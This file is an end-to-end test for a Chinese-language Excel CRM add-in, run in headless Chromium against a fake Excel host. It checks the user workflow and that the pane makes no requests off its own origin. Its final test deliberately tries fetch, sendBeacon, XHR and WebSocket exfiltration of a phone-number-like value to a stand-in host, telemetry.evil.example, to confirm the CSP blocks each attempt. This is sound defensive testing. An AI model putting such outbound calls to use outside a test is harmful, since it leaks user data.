// End-to-end: the PRODUCTION build of the task pane (dist/, `npm run build`) in headless Debian Chromium,
// driven by playwright-core, with the strict fake Excel (test/excel/fake-excel.ts) injected as the host.
//
// - dist/ is served by a tiny static server on 127.0.0.1 (random port); Office.js comes from dist/office-js
//   (the installed @microsoft/office-js), and every request the page makes must stay on that origin.
// - host-entry.ts is bundled here with webpack's Node API and injected with page.addInitScript, together with
//   the workbook spec, so it runs before the page's own scripts; index.tsx then renders the pane with the real
//   Office.js actions over the fake (window.__crmTestHost), and the test inspects the book (window.__crmFake).
// - A user's path: set the as-of date, 校验 → click a finding → 应用标签 → 标记流失风险 → 生成复盘, asserting what
//   the pane shows and what the workbook holds after each step; a screenshot per step in test-artifacts/e2e/.
import fs from "fs";
import http from "http";
import os from "os";
import path from "path";
import { chromium, type BrowserContext, type Locator, type Page } from "playwright-core";
import webpack from "webpack";
import { columnLetter, quoteSheet, runPipeline } from "../../src/core";
import { generateSample } from "../../scripts/sample";
import { LABELS, translate, type LabelKey, type Vars } from "../../src/taskpane/i18n";
import { FINDINGS_SHEET, OWNED_COLUMNS, REVIEW_SHEET_PREFIX } from "../../src/workbook/owned";
import type { FakeExcel } from "../excel/fake-excel";
import { specOf } from "../excel/spec";
import { recordReliability } from "../reliability";

jest.setTimeout(120_000);

const ROOT = path.resolve(__dirname, "../..");
const DIST = path.join(ROOT, "dist");
const ARTIFACTS = path.join(ROOT, "test-artifacts", "e2e");
const CHROMIUM = process.env.CHROMIUM_PATH ?? "/usr/bin/chromium";
/** The flags this machine needs (no sandbox as root, no GPU, no background traffic to Google). */
const CHROMIUM_ARGS = [
  "--headless",
  "--no-sandbox",
  "--disable-gpu",
  "--disable-quic",
  "--no-first-run",
  "--disable-background-networking",
  "--disable-component-update",
  "--disable-sync",
];
const AS_OF = "2024-11-26";
/**
 * How long the page is watched after it loads before the request log is judged. office.js, loaded outside
 * Office, loads o15apptofilemappingtable.js, whose OSF.Logger frames a Microsoft telemetry page 3 s later
 * (setTimeout 3e3): a shorter run would pass only by finishing first.
 */
const OBSERVE_MS = 5_000;
/** The frame office.js's OSF.Logger loads 3 s after the page (see OBSERVE_MS). */
const OFFICE_JS_TELEMETRY = "https://telemetryservice.firstpartyapps.oaspapps.com/telemetryservice/telemetryproxy.html";

// ── the workbook: the generated sample as Excel holds it (dates are serials), the orders sheet as a table ──


const sample = generateSample({ customers: 120, asOf: AS_OF });
const SPEC = specOf(sample.model, { 订单: "订单表" });
const expected = runPipeline(sample.model, AS_OF);
const customersTable = expected.tables.find((t) => t.kind === "customers" && t.used)!;

// ── labels exactly as the pane renders them (zh first; action buttons carry the English name too) ──

const zh = (key: LabelKey, vars?: Vars) => translate("zh", key, vars);
/** The accessible name of an ActionButton (src/taskpane/ui.tsx): "校验 Validate". */
const actionName = (key: LabelKey) => `${zh(key)} ${LABELS[key].en}`;

// ── the fake Excel host bundle ──

/** Bundles host-entry.ts (and the fake Excel it imports) for the browser, the way webpack.config.js transpiles. */
async function bundleHost(): Promise<string> {
  const out = fs.mkdtempSync(path.join(os.tmpdir(), "crm-e2e-host-"));
  try {
    const compiler = webpack({
      mode: "development",
      devtool: false,
      target: "web",
      context: ROOT,
      entry: path.join(__dirname, "host-entry.ts"),
      output: { path: out, filename: "host.js" },
      resolve: { extensions: [".ts", ".js"] },
      module: {
        rules: [
          {
            test: /\.tsx?$/,
            exclude: /node_modules/,
            use: { loader: "ts-loader", options: { transpileOnly: true, compilerOptions: { module: "es2020", sourceMap: false } } },
          },
        ],
      },
      performance: { hints: false },
      infrastructureLogging: { level: "error" },
    });
    const stats = await new Promise<webpack.Stats>((resolve, reject) => compiler.run((err, s) => (err || !s ? reject(err ?? new Error("webpack: no stats")) : resolve(s))));
    await new Promise<void>((resolve) => compiler.close(() => resolve()));
    if (stats.hasErrors()) throw new Error(`bundling test/e2e/host-entry.ts failed:\n${stats.toString("errors-only")}`);
    return fs.readFileSync(path.join(out, "host.js"), "utf8");
  } finally {
    fs.rmSync(out, { recursive: true, force: true });
  }
}

// ── dist/ over http on 127.0.0.1 ──

const MIME: Record<string, string> = {
  ".html": "text/html; charset=utf-8",
  ".js": "text/javascript; charset=utf-8",
  ".json": "application/json; charset=utf-8",
  ".xml": "application/xml; charset=utf-8",
  ".png": "image/png",
  ".css": "text/css; charset=utf-8",
};

/** Every path the server was asked for, and those dist/ does not hold. */
const served: string[] = [];
const notFound: string[] = [];

function serveDist(): Promise<{ server: http.Server; origin: string }> {
  const server = http.createServer((req, res) => {
    const pathname = decodeURIComponent(new URL(req.url ?? "/", "http://127.0.0.1").pathname);
    served.push(pathname);
    const file = path.join(DIST, pathname);
    if (!file.startsWith(DIST + path.sep) || req.method !== "GET") {
      res.writeHead(403).end();
      return;
    }
    fs.readFile(file, (err, data) => {
      if (err) {
        notFound.push(pathname);
        res.writeHead(404, { "Content-Type": "text/plain" }).end("not found");
        return;
      }
      res.writeHead(200, { "Content-Type": MIME[path.extname(file)] ?? "application/octet-stream", "Cache-Control": "no-store" }).end(data);
    });
  });
  return new Promise((resolve, reject) => {
    server.once("error", reject);
    server.listen(0, "127.0.0.1", () => {
      const addr = server.address();
      if (!addr || typeof addr === "string") return reject(new Error("no server address"));
      resolve({ server, origin: `http://127.0.0.1:${addr.port}` });
    });
  });
}

// ── the browser ──

type E2eWindow = Window & { __crmFake: FakeExcel };

let server: http.Server | undefined;
let origin = "";
let userDataDir: string | undefined;
let context: BrowserContext | undefined;
let page: Page;
const requests: string[] = [];
/** The same, seen by the page itself (page.on("request")), and any WebSocket it opens. */
const pageRequests: string[] = [];
const webSockets: string[] = [];
/** Requests that failed (URL → Chromium's reason), and those that reached the test's route off the local origin. */
const failures = new Map<string, string>();
const routed: string[] = [];
let loadedAt = 0;
const pageErrors: string[] = [];
const consoleErrors: string[] = [];

/** Waits until `outcome` shows or the pane shows an error (then fails with the pane's message). */
async function settle(outcome: Locator): Promise<void> {
  const alert = page.getByRole("alert");
  await outcome.or(alert).first().waitFor();
  if ((await alert.count()) > 0) throw new Error(`the pane shows an error: ${await alert.first().innerText()}`);
  await page.locator('main[aria-busy="false"]').waitFor();
}

/** Waits until the page has been open OBSERVE_MS, then for a quiet network. */
async function watchedLongEnough(): Promise<void> {
  const left = loadedAt + OBSERVE_MS - Date.now();
  if (left > 0) await page.waitForTimeout(left);
  await page.waitForLoadState("networkidle");
}

let shot = 0;
/** A viewport screenshot of the pane into test-artifacts/e2e/NN-step.png; returns its size in bytes. */
async function screenshot(step: string, focus?: Locator): Promise<number> {
  shot += 1;
  if (focus) await focus.scrollIntoViewIfNeeded();
  const file = path.join(ARTIFACTS, `${String(shot).padStart(2, "0")}-${step}.png`);
  await page.screenshot({ path: file });
  return fs.statSync(file).size;
}

beforeAll(async () => {
  if (!fs.existsSync(path.join(DIST, "taskpane.html"))) {
    throw new Error("dist/taskpane.html is missing: run npm run build first (the end-to-end test drives the production build in dist/)");
  }
  if (fs.readdirSync(DIST).some((f) => f.endsWith(".js.map"))) {
    throw new Error("dist/ holds a development build (source maps): run npm run build first (the end-to-end test drives the production build)");
  }
  if (!fs.existsSync(CHROMIUM)) throw new Error(`${CHROMIUM} is missing: run npm run setup (installs Debian's chromium)`);

  fs.rmSync(ARTIFACTS, { recursive: true, force: true });
  fs.mkdirSync(ARTIFACTS, { recursive: true });
  const [hostJs, http127] = await Promise.all([bundleHost(), serveDist()]);
  server = http127.server;
  origin = http127.origin;

  userDataDir = fs.mkdtempSync(path.join(os.tmpdir(), "crm-e2e-chromium-"));
  context = await chromium.launchPersistentContext(userDataDir, {
    executablePath: CHROMIUM,
    headless: true,
    args: CHROMIUM_ARGS,
    viewport: { width: 360, height: 900 },
    locale: "zh-CN",
  });
  context.setDefaultTimeout(20_000);
  context.on("request", (r) => requests.push(r.url()));
  context.on("requestfailed", (r) => failures.set(r.url(), r.failure()?.errorText ?? ""));
  // Anything off the local origin is recorded above and then refused, so the assertion below is the only judge.
  await context.route((url) => url.origin !== origin, (route) => {
    routed.push(route.request().url());
    return route.abort("blockedbyclient");
  });

  page = context.pages()[0] ?? (await context.newPage());
  // Before the page's own scripts: the workbook, then the fake Excel host built from it.
  await page.addInitScript({ content: `window.__crmSpec = ${JSON.stringify(SPEC)};` });
  await page.addInitScript({ content: hostJs });
  page.on("request", (r) => pageRequests.push(r.url()));
  page.on("websocket", (ws) => webSockets.push(ws.url()));
  page.on("pageerror", (e) => pageErrors.push(String(e)));
  page.on("console", (m) => m.type() === "error" && consoleErrors.push(m.text()));
  await page.goto(`${origin}/taskpane.html`, { waitUntil: "load" });
  loadedAt = Date.now();
  await page.getByRole("heading", { name: zh("app.title") }).waitFor();
});

afterAll(async () => {
  await context?.close().catch(() => undefined);
  if (userDataDir) fs.rmSync(userDataDir, { recursive: true, force: true });
  if (server) await new Promise<void>((resolve) => server!.close(() => resolve()));
});

describe("the production task pane in Chromium over the fake Excel", () => {
  test("renders Chinese with a CJK font, connected to the injected workbook", async () => {
    expect(await page.evaluate(() => document.fonts.check('16px "WenQuanYi Zen Hei"'))).toBe(true);
    // fonts.check is also true for a font that is not installed at all, so ask Chromium which platform
    // fonts it really used for the title "CRM 工作台".
    const cdp = await context!.newCDPSession(page);
    await cdp.send("DOM.enable");
    await cdp.send("CSS.enable");
    const { root } = await cdp.send("DOM.getDocument", { depth: -1 });
    const { nodeId } = await cdp.send("DOM.querySelector", { nodeId: root.nodeId, selector: "h1" });
    const { fonts } = await cdp.send("CSS.getPlatformFontsForNode", { nodeId });
    await cdp.detach();
    expect(fonts.map((f) => f.familyName)).toEqual(expect.arrayContaining([expect.stringMatching(/WenQuanYi/)]));
    // The pane has the workbook: no "open this in Excel" banner, the actions are enabled.
    await expect(page.getByText(zh("app.noExcel.title")).count()).resolves.toBe(0);
    await expect(page.getByRole("button", { name: actionName("action.validate") }).isEnabled()).resolves.toBe(true);
  });

  test("validate → apply → highlight → review, seen in the pane and in the workbook", async () => {
    // Runs `fn` on the fake's book inspector in the page (page.evaluate ships functions as source text, so the
    // inspector is handed in there); `fn` may use only its arguments.
    const book = <T, A>(fn: (b: FakeExcel["book"], arg: A) => T, arg: A): Promise<T> =>
      page.evaluate(({ src, arg }) => new Function("b", "arg", `return (${src})(b, arg);`)((window as unknown as E2eWindow).__crmFake.book, arg) as T, { src: fn.toString(), arg });

    // The as-of date, as a user types it, so every number below is deterministic.
    await page.getByLabel(zh("asOf.label")).fill(AS_OF);
    await expect(page.getByLabel(zh("asOf.label")).inputValue()).resolves.toBe(AS_OF);

    // ── 校验 ──
    const untouched = await book((b) => JSON.stringify(b.snapshot()), null);
    await page.getByRole("button", { name: actionName("action.validate") }).click();
    const summary = page.getByRole("heading", { name: zh("validate.summary", { asOf: AS_OF, rows: expected.summary.rows }) });
    await settle(page.getByTestId("count-errors"));
    await summary.waitFor();
    await expect(page.getByTestId("count-errors").innerText()).resolves.toBe(`${zh("validate.errors")} ${expected.summary.errors}`);
    await expect(page.getByTestId("count-warnings").innerText()).resolves.toBe(`${zh("validate.warnings")} ${expected.summary.warnings}`);
    await expect(page.getByTestId("count-infos").innerText()).resolves.toBe(`${zh("validate.infos")} ${expected.summary.infos}`);
    await expect(page.getByText(zh("validate.shown", { shown: expected.findings.length, total: expected.findings.length })).count()).resolves.toBe(1);
    expect(await screenshot("validate", summary)).toBeGreaterThan(10_000);
    // Validating reads only.
    expect(await book((b) => JSON.stringify(b.snapshot()), null)).toBe(untouched);

    // A finding selects its cell: pick one on a sheet other than the active one, so activation is proven too.
    const active = await book((b) => b.activeSheet(), null);
    const shownAddresses = await page.locator("[data-address]").evaluateAll((els) => els.map((e) => e.getAttribute("data-address") ?? ""));
    const target = expected.findings.find((f) => f.address !== "" && f.sheet !== active && shownAddresses.includes(f.address)) ?? expected.findings.find((f) => shownAddresses.includes(f.address))!;
    const ref = target.address.slice(target.address.lastIndexOf("!") + 1).replace(/\$/g, "");
    await page.getByRole("button", { name: zh("validate.goto", { address: target.address, message: "" }) }).first().click();
    await page.waitForFunction((sheet) => (window as unknown as E2eWindow).__crmFake.book.activeSheet() === sheet, target.sheet);
    expect(await book((b) => b.activeSheet(), null)).toBe(target.sheet);
    expect(await book((b) => b.selection(), null)).toMatch(new RegExp(`!${ref}$`));
    process.stdout.write(`e2e: clicked the finding ${target.code} ${target.address} (active sheet was ${active}) → the book selects ${await book((b) => b.selection(), null)}\n`);
    expect(await page.getByRole("alert").count()).toBe(0);

    // The book as the user has it before the add-in writes anything (the finding's cell selected).
    const beforeOutput = await book((b) => JSON.stringify(b.snapshot()), null);

    // ── 应用标签 ──
    await page.getByRole("tab", { name: zh("tab.apply") }).click();
    await page.getByRole("button", { name: actionName("action.applyTags") }).click();
    const applied = page.getByTestId("apply-outcome");
    await settle(applied);
    const appliedText = await applied.innerText();
    expect(appliedText).toContain(zh("apply.done", { customers: expected.customers.length }));
    expect(appliedText).toContain(zh("apply.asOf", { asOf: AS_OF }));
    expect(appliedText).toContain(zh("apply.findings", { n: expected.findings.length }));
    expect(expected.customers).toHaveLength(120);
    expect(await screenshot("apply", applied)).toBeGreaterThan(10_000);

    const sheet = customersTable.sheet;
    const header = (await book((b, a) => b.values(a.sheet, `A${a.row}:ZZ${a.row}`)[0], { sheet, row: customersTable.headerRow })).map(String);
    for (const c of OWNED_COLUMNS) expect(header).toContain(c.header);
    const stageCol = columnLetter(header.indexOf(OWNED_COLUMNS.find((c) => c.key === "stage")!.header) + 1);
    const lastCol = columnLetter(header.indexOf(OWNED_COLUMNS[OWNED_COLUMNS.length - 1].header) + 1);
    expect(appliedText).toContain(zh("apply.range", { range: `${quoteSheet(sheet)}!${stageCol}${customersTable.headerRow}:${lastCol}${customersTable.lastRow}` }));
    const rows = expected.customers.map((c) => c.row);
    const top = Math.min(...rows);
    const stages = (await book((b, a) => b.values(a.sheet, a.ref), { sheet, ref: `${stageCol}${top}:${stageCol}${Math.max(...rows)}` })).map((r) => r[0]);
    for (const c of expected.customers) expect({ row: c.row, stage: stages[c.row - top] }).toEqual({ row: c.row, stage: c.stage });
    expect(await book((b) => b.sheetNames(), null)).toContain(FINDINGS_SHEET);

    // ── 标记流失风险 ──
    await page.getByRole("button", { name: actionName("action.highlightRisk") }).click();
    const highlighted = page.getByTestId("highlight-outcome");
    await settle(highlighted);
    const count = (stage: string) => expected.customers.filter((c) => c.stage === stage).length;
    const highlightText = await highlighted.innerText();
    expect(highlightText).toContain(`${zh("highlight.atRisk")} ${count("流失风险客户")}`);
    expect(highlightText).toContain(`${zh("highlight.churned")} ${count("流失客户")}`);
    expect(highlightText).toContain(`${zh("highlight.overdue")} ${expected.customers.filter((c) => c.overdue).length}`);
    expect(highlightText).toContain(zh("highlight.rules", { n: 3 }));
    expect(await screenshot("highlight", highlighted)).toBeGreaterThan(10_000);
    const rules = await book((b, s) => b.conditionalFormats(s).filter((cf) => String(cf.formula ?? "").includes("CRM◆")), sheet);
    expect(rules).toHaveLength(3);

    // ── 生成复盘 ──
    await page.getByRole("tab", { name: zh("tab.review") }).click();
    await page.getByRole("button", { name: actionName("action.buildReview") }).click();
    const reviewed = page.getByTestId("review-outcome");
    await settle(reviewed);
    const pivots = await book((b) => b.pivotTables(), null);
    const charts = await book((b) => b.charts(), null);
    const names = await book((b) => b.sheetNames(), null);
    expect(pivots).toHaveLength(2);
    expect(charts.length).toBeGreaterThanOrEqual(2);
    const reviewText = await reviewed.innerText();
    expect(reviewText).toContain(zh("review.pivots", { n: pivots.length }));
    expect(reviewText).toContain(zh("review.charts", { n: charts.length }));
    expect(reviewText).not.toContain(zh("review.fallback.title"));
    const listed = await reviewed.getByRole("listitem").allInnerTexts();
    expect(listed.length).toBeGreaterThan(0);
    for (const name of listed) {
      expect(name.startsWith(REVIEW_SHEET_PREFIX)).toBe(true);
      expect(names).toContain(name);
    }
    expect(reviewText).toContain(zh("review.sheets", { n: listed.length }));
    expect(await screenshot("review", reviewed)).toBeGreaterThan(10_000);
    expect(await page.getByRole("alert").count()).toBe(0);

    // ── 移除 CRM 结果: asked first, then the book is the user's again ──
    await page.getByRole("tab", { name: zh("tab.apply") }).click();
    await page.getByRole("button", { name: actionName("action.removeOutput") }).click();
    const confirm = page.getByTestId("remove-confirm");
    await confirm.waitFor();
    expect(await screenshot("remove-confirm", confirm)).toBeGreaterThan(10_000);
    expect(await book((b) => JSON.stringify(b.snapshot()), null)).not.toBe(beforeOutput);
    await page.getByRole("button", { name: zh("remove.confirm"), exact: true }).click();
    const removed = page.getByTestId("remove-outcome");
    await settle(removed);
    expect(await removed.innerText()).toBe(zh("remove.done", { columns: OWNED_COLUMNS.length, rules: 3, sheets: listed.length + 1 }));
    expect(await book((b) => JSON.stringify(b.snapshot()), null)).toBe(beforeOutput);
    expect(await screenshot("removed", removed)).toBeGreaterThan(10_000);
    expect(await page.getByRole("alert").count()).toBe(0);
  });

  test("keyboard only: Tab reaches 校验 and a finding; Enter runs it and selects the finding's cell", async () => {
    await page.getByRole("tab", { name: zh("tab.validate") }).click();
    await page.evaluate(() => (document.activeElement as HTMLElement | null)?.blur());
    const focused = () => page.evaluate(() => ({ text: document.activeElement?.textContent ?? "", address: document.activeElement?.getAttribute("data-address") ?? "" }));
    let steps = 0;
    for (; steps < 60 && !(await focused()).text.startsWith(zh("action.validate")); steps++) await page.keyboard.press("Tab");
    expect((await focused()).text.startsWith(zh("action.validate"))).toBe(true);
    await page.keyboard.press("Enter");
    await page.getByTestId("count-errors").waitFor();
    for (steps = 0; steps < 80 && (await focused()).address === ""; steps++) await page.keyboard.press("Tab");
    const { address } = await focused();
    expect(address).not.toBe("");
    await page.keyboard.press("Enter");
    const sheet = address.slice(0, address.lastIndexOf("!")).replace(/^'(.*)'$/, "$1").replace(/''/g, "'");
    await page.waitForFunction((s) => (window as unknown as E2eWindow).__crmFake.book.activeSheet() === s, sheet);
    const ref = address.slice(address.lastIndexOf("!") + 1);
    expect(await page.evaluate(() => (window as unknown as E2eWindow).__crmFake.book.selection())).toMatch(new RegExp(`!${ref}$`));
  });

  test("the page asked only for the add-in's own files — no telemetry, nothing off the local origin — without errors", async () => {
    await watchedLongEnough();
    const isLocal = (u: string) => new URL(u).origin === origin;
    process.stdout.write(`e2e: the page made ${requests.length} request(s):\n${requests.map((u) => `  ${isLocal(u) ? "" : "REFUSED "}${u}`).join("\n")}\n` +
        `e2e: console errors: ${consoleErrors.length === 0 ? "none" : `\n  ${consoleErrors.join("\n  ")}`}\n`);
    // office.js's logger frames OFFICE_JS_TELEMETRY outside Office; taskpane.html's CSP (frame-src 'self') blocks
    // it before any request is made.
    expect(requests.filter((u) => !isLocal(u))).toEqual([]);
    expect(requests).not.toContain(OFFICE_JS_TELEMETRY);
    expect(requests.map((u) => new URL(u).pathname)).toEqual(expect.arrayContaining(["/taskpane.html", "/office-js/office.js", "/runtime.js", "/taskpane.js", "/commands.js", "/functions.js"]));
    // Server side: every file asked for is in dist/.
    expect(notFound).toEqual([]);
    expect(served).toContain("/office-js/office.js");
    expect(pageErrors).toEqual([]);
  });

  // Issue 8, "Privacy and security": through every scenario above (load, validate, apply, highlight, review,
  // keyboard), the page's own request log — page.on("request"), beside the context's — holds only files of the
  // add-in: same origin, GET of a file that is in the served dist/, no WebSocket, nothing else.
  test("every request the page made through all the scenarios is one of the add-in's own files in dist/", async () => {
    await watchedLongEnough();
    const distFile = (u: string) => {
      const url = new URL(u);
      if (url.origin !== origin || url.search !== "" || url.hash !== "") return false;
      const file = path.join(DIST, decodeURIComponent(url.pathname));
      return file.startsWith(DIST + path.sep) && fs.existsSync(file) && fs.statSync(file).isFile();
    };
    const foreign = [...pageRequests, ...webSockets].filter((u) => !distFile(u));
    recordReliability("e2e-network", {
      group: "privacy and security",
      what: "任务窗格页面发出的请求（全部场景） requests the task pane page made through every E2E scenario",
      tried: pageRequests.length + webSockets.length,
      failed: foreign.length,
      where: "test/e2e/pane.e2e.test.ts (production build in Chromium)",
    });
    expect(pageRequests.length).toBeGreaterThanOrEqual(6);
    expect(foreign).toEqual([]);
    expect(webSockets).toEqual([]);
    // The context saw nothing the page did not (no worker or popup of its own went elsewhere).
    expect(requests.filter((u) => !distFile(u))).toEqual([]);
  });

  test("the page's Content-Security-Policy: connect-src 'self', enforced by Chromium before any request leaves", async () => {
    const policy = await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute("content") ?? "");
    const directives = new Map(policy.split(";").map((d) => d.trim().split(/\s+/)).filter((d) => d[0]).map(([name, ...src]) => [name, src]));
    expect(directives.get("connect-src")).toEqual(["'self'"]);
    expect(directives.get("frame-src")).toEqual(["'self'"]);
    // Now try to send data out the ways a script would: the browser refuses each one by the policy, so the
    // request log does not grow (the context's route would only have refused them after they were made).
    const before = requests.length;
    const blocked = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener("securitypolicyviolation", (e) => violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
      const attempts: string[] = [];
      await fetch("https://telemetry.evil.example/collect?phone=13812345678").catch((e) => attempts.push(`fetch: ${String(e)}`));
      attempts.push(`beacon: ${navigator.sendBeacon("https://telemetry.evil.example/beacon", "13812345678")}`);
      await new Promise<void>((resolve) => {
        const x = new XMLHttpRequest();
        x.onloadend = () => resolve();
        try {
          x.open("POST", "https://telemetry.evil.example/xhr");
          x.send("13812345678");
        } catch (e) {
          attempts.push(`xhr: ${String(e)}`);
          resolve();
        }
      });
      try {
        new WebSocket("wss://telemetry.evil.example/ws");
      } catch (e) {
        attempts.push(`ws: ${String(e)}`);
      }
      await new Promise((resolve) => setTimeout(resolve, 200));
      return { violations, attempts };
    });
    process.stdout.write(`e2e: outside connections tried from the page: ${JSON.stringify(blocked)}\n`);
    expect(blocked.violations.filter((v) => v.startsWith("connect-src")).length).toBeGreaterThanOrEqual(3);
    // Chromium reports the XHR as a request that failed with "csp": refused by the policy, it never reached the
    // network layer (the test's route, which would refuse anything off the local origin, saw nothing all run).
    const outside = requests.slice(before).filter((u) => new URL(u).origin !== origin);
    expect(outside.map((u) => [u, failures.get(u)]).filter(([, why]) => why !== "csp")).toEqual([]);
    expect(routed).toEqual([]);
    expect(webSockets).toEqual([]);
  });
});
